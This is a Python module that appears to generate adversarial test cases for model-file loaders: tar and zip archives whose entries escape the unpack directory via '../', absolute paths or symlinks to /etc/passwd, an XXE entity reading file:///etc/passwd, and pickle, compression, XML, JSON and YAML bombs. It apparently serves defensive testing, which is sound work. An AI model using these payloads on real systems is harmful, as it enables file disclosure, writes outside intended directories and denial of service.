"""Archives that write outside the place they are unpacked to, and archives, streams and texts that grow without bound."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from attacks.case import CANARY, Case, Raw, glob, long, one, push, stream
from attacks.containers import npy, patched, tarred, torch_zip, zipped

UP = "../" * 8


def links(*members: tuple[str, bytes, str]) -> bytes:
    """A tar of (name, type, link target)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, kind, target in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            info.size = 4 if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(b"data") if info.size else None)
    return out.getvalue()


def zip_link(name: str, target: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, target)
    return out.getvalue()


def escapes() -> Iterator[Case]:
    outside = UP + CANARY.lstrip("/")
    forms: dict[str, tuple[str, bytes, str]] = {
        "tar-parent": ("model.tar", tarred([(outside, b"x")]), "none"),
        "tar-absolute": ("model.tar", tarred([(CANARY, b"x")]), "none"),
        "tar-link-then-file": (
            "model.tar",
            links(
                ("d", tarfile.SYMTYPE, CANARY.rsplit("/", 1)[0]), ("d/" + CANARY.rsplit("/", 1)[1], tarfile.REGTYPE, "")
            ),
            "none",
        ),
        "tar-symlink-out": ("model.tar", links(("weights.bin", tarfile.SYMTYPE, "/etc/passwd")), "none"),
        "tar-hardlink-out": ("model.tar", links(("weights.bin", tarfile.LNKTYPE, "/etc/passwd")), "none"),
        "tar-device": ("model.tar", links(("weights.bin", tarfile.CHRTYPE, "")), "none"),
        "tar-fifo": ("model.tar", links(("weights.bin", tarfile.FIFOTYPE, "")), "none"),
        "nemo-parent": ("model.nemo", tarred([("./model_config.yaml", b"a: 1\n"), (outside, b"x")]), "none"),
        "tar-gz-parent": ("model.tar.gz", gzip.compress(tarred([(outside, b"x")]), mtime=0), "none"),
        "zip-parent": ("model.zip", zipped([(outside, b"x")]), "none"),
        "zip-absolute": ("model.zip", zipped([(CANARY, b"x")]), "none"),
        "zip-backslash": ("model.zip", zipped([("..\\..\\weights.bin", b"x")]), "none"),
        "zip-drive": ("model.zip", zipped([("C:/weights.bin", b"x")]), "none"),
        "zip-nul-in-name": (
            "model.zip",
            zipped([("weightsX.pkl", b"x")]).replace(b"weightsX.pkl", b"weights\0.pkl"),
            "none",
        ),
        "zip-symlink": ("model.zip", zip_link("weights.bin", "/etc/passwd"), "none"),
        "keras-parent": (
            "model.keras",
            zipped([("config.json", b"{}"), ("metadata.json", b"{}"), (outside, b"x")]),
            "none",
        ),
        "torch-parent": (
            "model.pt",
            torch_zip(push({}) and stream(push({}), 2), more=((f"archive/{outside}", b"x"),)),
            "none",
        ),
        "mar-parent": ("model.mar", zipped([("MAR-INF/MANIFEST.json", b"{}"), (outside, b"x")]), "none"),
    }
    for name, (path, data, loader) in forms.items():
        yield one("escape", name, data, path=path, loader=loader)
    for name, target in (
        ("symlink-out", "/etc/passwd"),
        ("symlink-up", "../../../../etc/passwd"),
        ("symlink-loop", "weights.bin"),
        ("symlink-device", "/dev/zero"),
    ):
        yield Case(id=f"escape/{name}", kind="escape", files={"config.json": b"{}"}, link={"weights.bin": target})


def bombs() -> Iterator[Case]:
    memo = (
        b"\x80\x02"
        + long("a" * 64)
        + b"q\x000"
        + b"".join(
            b"(" + b"h" + bytes([i]) * 1 + (b"h" + bytes([i])) * 9 + b"tq" + bytes([i + 1]) + b"0" for i in range(60)
        )
        + b"h\x3c."
    )
    nul = bytes(200 << 20)
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">'
        + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
        + "]><PMML>&a11;</PMML>"
    )
    quine = zipped(
        [
            (f"{i}.zip", zipped([(f"{j}.bin", bytes(1 << 20)) for j in range(16)], method=zipfile.ZIP_DEFLATED))
            for i in range(16)
        ],
        method=zipfile.ZIP_DEFLATED,
    )
    overlapped = zipped([("a", zlib.compress(bytes(1 << 16)))])
    forms: dict[str, tuple[str, bytes]] = {
        "pickle-memo-expansion": ("model.pkl", memo),
        "pickle-long-integer": ("model.pkl", b"\x80\x02\x8b" + struct.pack("<i", 1 << 30) + b"x" * 64 + b"."),
        "pickle-decimal-integer": ("model.pkl", b"I" + b"9" * 2_000_000 + b"\n."),
        "pickle-deep-lists": ("model.pkl", b"\x80\x02" + b"]" * 500_000 + b"a" * 499_999 + b"."),
        "pickle-many-marks": ("model.pkl", b"\x80\x02" + b"(" * 1_000_000 + b"N."),
        "pickle-range": ("model.pkl", stream(Raw(glob("builtins", "bytearray") + push((1 << 30,)) + b"R"), 2)),
        "numpy-huge-shape": ("w.npy", npy("<f8", bytes(64), f"({1 << 40}, {1 << 20})")),
        "numpy-negative-shape": ("w.npy", npy("<f8", bytes(64), "(-1, 8)")),
        "gzip-200-mb": ("model.pkl.gz", gzip.compress(nul, mtime=0)),
        "bz2-200-mb": ("model.pkl.bz2", bz2.compress(nul)),
        "xz-200-mb": ("model.pkl.xz", lzma.compress(nul)),
        "zlib-200-mb": ("model.joblib", zlib.compress(nul)),
        "zip-nested": ("model.zip", quine),
        "zip-one-member": ("model.zip", zipped([("w.pkl", nul)], method=zipfile.ZIP_DEFLATED)),
        "zip-many-members": ("model.zip", zipped([(f"{i}", b"") for i in range(20_000)])),
        "zip-claims-more": ("model.zip", patched(overlapped, 22, struct.pack("<I", 0xFFFFFF00))),
        "tar-claims-more": (
            "model.tar",
            tarred([("w", b"x" * 10)])[:124] + b"77777777777\0" + tarred([("w", b"x" * 10)])[136:],
        ),
        "npz-bomb": (
            "w.npz",
            zipped([("w.npy", npy("<f8", bytes(100 << 20), f"({(100 << 20) // 8},)"))], method=zipfile.ZIP_DEFLATED),
        ),
        "xml-laughs": ("model.pmml", laughs.encode()),
        "xml-external": (
            "model.xml",
            b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="m" version="11"><layers>&x;</layers></net>',
        ),
        "xml-deep": ("model.pmml", b"<PMML>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</PMML>"),
        "json-deep": ("config.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
        "yaml-aliases": (
            "config.yaml",
            b"a: &a [x]\n"
            + b"".join(b"%c: &%c [%s]\n" % (98 + i, 98 + i, b", ".join([b"*%c" % (97 + i)] * 9)) for i in range(12)),
        ),
    }
    for name, (path, data) in forms.items():
        yield one("bomb", name, data, path=path, loader="none")


def cases() -> Iterator[Case]:
    yield from escapes()
    yield from bombs()
